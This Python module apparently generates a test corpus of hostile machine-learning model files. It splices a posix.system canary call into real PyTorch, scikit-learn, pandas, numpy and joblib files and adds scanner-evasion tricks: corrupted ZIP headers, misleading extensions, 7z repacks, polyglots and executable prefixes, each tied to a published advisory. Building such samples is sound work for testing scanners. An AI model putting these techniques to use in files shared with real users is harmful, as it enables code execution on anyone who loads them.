"""Hostile model containers: the payload is ordinary, the wrapping is the technique.

Real files are written by real torch / sklearn / pandas first (writing is safe), then a canary call is spliced in
at the opcode level or the container is tampered with, as the advisories describe.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from corpus.containers import (
    npy_bytes,
    patch_zip_header,
    rename_local_header,
    replace_member,
    split_stacked_pickles,
    write_zip,
    zip_members,
)
from corpus.pickle_ops import call, canary_shell, inject_before, program, s, stack_glob

PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
JFROG = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
LLAMAFILE = "https://github.com/Mozilla-Ocho/llamafile"
EXEC_IN_MODELS = "https://github.com/promptfoo/modelaudit/pull/162"


@dataclass(frozen=True)
class ContainerCase:
    """One container technique: file extension, format label, builder, provenance."""

    technique: str
    ext: str
    fmt: str
    source: str
    build: Callable[[str], bytes]
    description: str


def payload_call(t: str) -> bytes:
    """The canary call spliced into otherwise real files."""
    return call(stack_glob("posix", "system"), s(canary_shell(t)))


def raw_payload(t: str) -> bytes:
    return program(payload_call(t), protocol=2)


# --- real files from real libraries ------------------------------------------------------------------------------
def torch_checkpoint_bytes(legacy: bool = False) -> bytes:
    import torch

    state = {"layer.weight": torch.arange(12, dtype=torch.float32).reshape(3, 4), "layer.bias": torch.zeros(3)}
    out = io.BytesIO()
    torch.save(state, out, _use_new_zipfile_serialization=not legacy)
    return out.getvalue()


def torchscript_bytes() -> bytes:
    import torch

    module = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU()))
    out = io.BytesIO()
    torch.jit.save(module, out)
    return out.getvalue()


def sklearn_pickle_bytes() -> bytes:
    import pickle

    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 3))
    model = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
    return pickle.dumps(model, protocol=4)


def pandas_pickle_bytes() -> bytes:
    import pandas as pd

    frame = pd.DataFrame({"id": range(5), "label": list("abcde")})
    out = io.BytesIO()
    frame.to_pickle(out, compression=None)
    return out.getvalue()


# --- techniques ---------------------------------------------------------------------------------------------------
def torch_zip_injected(t: str) -> bytes:
    return replace_member(torch_checkpoint_bytes(), "data.pkl", lambda p: inject_before(payload_call(t), p))


def torch_zip_bad_crc(t: str) -> bytes:
    return patch_zip_header(torch_zip_injected(t), "data.pkl", crc=0xDEADBEEF)


def torch_zip_flag_bits(t: str) -> bytes:
    return patch_zip_header(torch_zip_injected(t), "data.pkl", flag_bits=0x0020)


def torch_zip_local_name_mismatch(t: str) -> bytes:
    data = torch_zip_injected(t)
    name = next(n for n, _ in zip_members(data) if n.endswith("data.pkl"))
    return rename_local_header(data, "data.pkl", name[:-1].encode() + b"X")


def torch_legacy_injected(t: str) -> bytes:
    heads, rest = split_stacked_pickles(torch_checkpoint_bytes(legacy=True), 3)
    main, tail = split_stacked_pickles(rest, 1)
    return b"".join(heads) + inject_before(payload_call(t), main[0]) + tail


def torch_legacy_tar(t: str) -> bytes:
    import pickle

    out = io.BytesIO()
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": raw_payload(t),
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def torchscript_injected(t: str) -> bytes:
    return replace_member(torchscript_bytes(), "/data.pkl", lambda p: inject_before(payload_call(t), p))


def nullifai_7z_broken(t: str) -> bytes:
    import py7zr

    members = zip_members(torch_checkpoint_bytes())
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as archive:
        for name, data in members:
            body = inject_before(payload_call(t), data)[:-6] if name.endswith("data.pkl") else data
            archive.writestr(body, name)
    return out.getvalue()


def zip_member_pickle(t: str) -> bytes:
    return write_zip(
        [("model/README.txt", b"exported model\n"), ("model/estimator.pkl", raw_payload(t))], compression=8
    )


def tar_member_pickle(t: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        data = raw_payload(t)
        info = tarfile.TarInfo("model/model.pkl")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy_object_pickle(t: str) -> bytes:
    return npy_bytes("|O", (1,), raw_payload(t))


def npy_v2_object_pickle(t: str) -> bytes:
    return npy_bytes("|O", (1,), raw_payload(t), version=2)


def zip_pickle_polyglot(t: str) -> bytes:
    return raw_payload(t) + torch_checkpoint_bytes()


def npz_object_pickle(t: str) -> bytes:
    benign = npy_bytes("<f8", (2,), b"\x00" * 16)
    return write_zip([("weights.npy", benign), ("labels.npy", npy_object_pickle(t))])


def sklearn_injected(t: str) -> bytes:
    return inject_before(payload_call(t), sklearn_pickle_bytes())


def pandas_injected_gz(t: str) -> bytes:
    return gzip.compress(inject_before(payload_call(t), pandas_pickle_bytes()))


def _joblib(compress: Callable[[bytes], bytes]) -> Callable[[str], bytes]:
    def build(t: str) -> bytes:
        return compress(sklearn_injected(t))

    return build


def _lzma_alone(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE)


def _xz(data: bytes) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_XZ)


# --- programs and prefixes in front of archives ---------------------------------------------------------------
def elf_header() -> bytes:
    """A 64-bit little-endian ELF identification and header (enough for any magic check; never run)."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(4096 - 24)


def pe_header() -> bytes:
    """A DOS stub whose e_lfanew points at a PE signature and an x86-64 COFF header."""
    dos = bytearray(128)
    dos[:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 0) + bytes(1024)


def llamafile_zip_pickle(t: str) -> bytes:
    """llamafile/APE layout: an executable with a zip appended; zip readers find the archive by its tail."""
    return elf_header() + write_zip([("weights/model.pkl", raw_payload(t))])


def pe_front_torch_zip(t: str) -> bytes:
    return pe_header() + torch_zip_injected(t)


def elf_named_model_bin(t: str) -> bytes:
    """A native program uploaded as pytorch_model.bin, with the pickle payload in its data section."""
    return elf_header() + raw_payload(t)


CASES: tuple[ContainerCase, ...] = (
    ContainerCase(
        "torch_zip_injected",
        ".pt",
        "pytorch-zip",
        "https://github.com/trailofbits/fickling (pytorch injection)",
        torch_zip_injected,
        "real torch.save archive, call spliced into data.pkl",
    ),
    ContainerCase(
        "torch_zip_bad_crc",
        ".pt",
        "pytorch-zip",
        JFROG + " (CVE-2025-10156)",
        torch_zip_bad_crc,
        "CRC-32 of data.pkl is wrong: Python zipfile refuses, torch does not check",
    ),
    ContainerCase(
        "torch_zip_flag_bits",
        ".pt",
        "pytorch-zip",
        PS + "GHSA-w8jq-xcqf-f792",
        torch_zip_flag_bits,
        "general-purpose flag bit 5 set on data.pkl: Python's zipfile refuses the member; a scanner must fail closed",
    ),
    ContainerCase(
        "torch_zip_local_name_mismatch",
        ".pt",
        "pytorch-zip",
        PS + "GHSA-7q5r-7gvp-wc82",
        torch_zip_local_name_mismatch,
        "local header names data.pkX, central directory data.pkl: Python's zipfile raises, torch reads it",
    ),
    ContainerCase(
        "torch_zip_odd_extension",
        ".data",
        "pytorch-zip",
        PS + "GHSA-769v-p64c-89pr",
        torch_zip_injected,
        "torch archive under an extension no scanner maps to PyTorch",
    ),
    ContainerCase(
        "raw_pickle_named_bin",
        ".bin",
        "pickle",
        JFROG + " (CVE-2025-10155)",
        raw_payload,
        "plain pickle named like a PyTorch .bin (torch.load falls back to legacy pickle)",
    ),
    ContainerCase(
        "pickle_named_safetensors",
        ".safetensors",
        "pickle",
        JFROG + " (CVE-2025-10155)",
        raw_payload,
        "pickle under a safe-format extension: format must come from content, not name",
    ),
    ContainerCase(
        "torch_legacy_injected",
        ".pth",
        "pytorch-legacy",
        "https://github.com/pytorch/pytorch/blob/main/torch/serialization.py (_legacy_load)",
        torch_legacy_injected,
        "real legacy (non-zip) torch.save stream, call spliced into the main pickle",
    ),
    ContainerCase(
        "torch_legacy_tar",
        ".tar",
        "pytorch-legacy-tar",
        "https://github.com/pytorch/pytorch/blob/main/torch/serialization.py (legacy tar format)",
        torch_legacy_tar,
        "the oldest torch format: a tar whose 'pickle' member is the payload",
    ),
    ContainerCase(
        "torchscript_injected",
        ".pt",
        "torchscript",
        "https://nvd.nist.gov/vuln/detail/CVE-2025-32434",
        torchscript_injected,
        "real TorchScript archive with a call spliced into data.pkl",
    ),
    ContainerCase(
        "nullifai_7z_broken",
        ".pt",
        "7z",
        NULLIFAI,
        nullifai_7z_broken,
        "nullifAI: torch archive re-packed as 7z, data.pkl payload first then truncated",
    ),
    ContainerCase(
        "zip_member_pickle",
        ".zip",
        "zip",
        "https://github.com/mmaitre314/picklescan (zip scanning)",
        zip_member_pickle,
        "deflated zip bundle with a .pkl member",
    ),
    ContainerCase(
        "tar_member_pickle",
        ".tar.gz",
        "tar",
        "https://github.com/trailofbits/fickling/blob/master/fickling/polyglot.py (tar polyglots)",
        tar_member_pickle,
        "gzip tarball with a .pkl member",
    ),
    ContainerCase(
        "npy_object_pickle",
        ".npy",
        "numpy",
        "https://numpy.org/doc/stable/reference/generated/numpy.load.html (allow_pickle)",
        npy_object_pickle,
        "object-dtype .npy whose body is a pickle",
    ),
    ContainerCase(
        "npy_v2_object_pickle",
        ".npy",
        "numpy",
        "https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html (format version 2.0)",
        npy_v2_object_pickle,
        "NPY format 2.0 header (4-byte length) on an object array whose body is a pickle",
    ),
    ContainerCase(
        "zip_pickle_polyglot",
        ".pt",
        "polyglot",
        "https://github.com/trailofbits/fickling/blob/master/fickling/polyglot.py (zip/pickle polyglot)",
        zip_pickle_polyglot,
        "pickle prepended to a real torch zip: zip readers see the archive, torch.load unpickles the prefix",
    ),
    ContainerCase(
        "npz_object_pickle",
        ".npz",
        "numpy",
        "https://nvd.nist.gov/vuln/detail/CVE-2019-6446",
        npz_object_pickle,
        "npz archive with one object-dtype member",
    ),
    ContainerCase(
        "sklearn_injected",
        ".pkl",
        "pickle",
        "https://scikit-learn.org/stable/model_persistence.html (security)",
        sklearn_injected,
        "real LogisticRegression pickle with a call spliced in first",
    ),
    ContainerCase(
        "pandas_injected_gz",
        ".pkl.gz",
        "pickle-gzip",
        "https://pandas.pydata.org/docs/reference/api/pandas.read_pickle.html (warning)",
        pandas_injected_gz,
        "pandas DataFrame pickle, gzip, spliced",
    ),
    ContainerCase(
        "joblib_zlib",
        ".joblib",
        "joblib-zlib",
        "https://joblib.readthedocs.io/en/stable/persistence.html",
        _joblib(zlib.compress),
        "joblib zlib compression of a spliced sklearn pickle",
    ),
    ContainerCase(
        "joblib_gzip",
        ".joblib",
        "joblib-gzip",
        "https://joblib.readthedocs.io/en/stable/persistence.html",
        _joblib(gzip.compress),
        "joblib gzip compression",
    ),
    ContainerCase(
        "joblib_bz2",
        ".joblib",
        "joblib-bz2",
        "https://joblib.readthedocs.io/en/stable/persistence.html",
        _joblib(bz2.compress),
        "joblib bz2 compression",
    ),
    ContainerCase(
        "joblib_lzma",
        ".joblib",
        "joblib-lzma",
        "https://joblib.readthedocs.io/en/stable/persistence.html",
        _joblib(_lzma_alone),
        "joblib lzma (.lzma 'alone' format) compression",
    ),
    ContainerCase(
        "joblib_xz",
        ".joblib",
        "joblib-xz",
        "https://joblib.readthedocs.io/en/stable/persistence.html",
        _joblib(_xz),
        "joblib xz compression",
    ),
    ContainerCase(
        "llamafile_zip_pickle",
        ".llamafile",
        "zip-behind-executable",
        LLAMAFILE,
        llamafile_zip_pickle,
        "ELF program with a zip appended (llamafile/APE layout) holding a hostile pickle",
    ),
    ContainerCase(
        "pe_front_torch_zip",
        ".pt",
        "zip-behind-executable",
        EXEC_IN_MODELS,
        pe_front_torch_zip,
        "PE header in front of a hostile PyTorch zip (zip readers accept any prefix)",
    ),
    ContainerCase(
        "elf_named_model_bin",
        ".bin",
        "executable",
        EXEC_IN_MODELS,
        elf_named_model_bin,
        "native ELF program uploaded under a weights name, pickle payload inside",
    ),
)
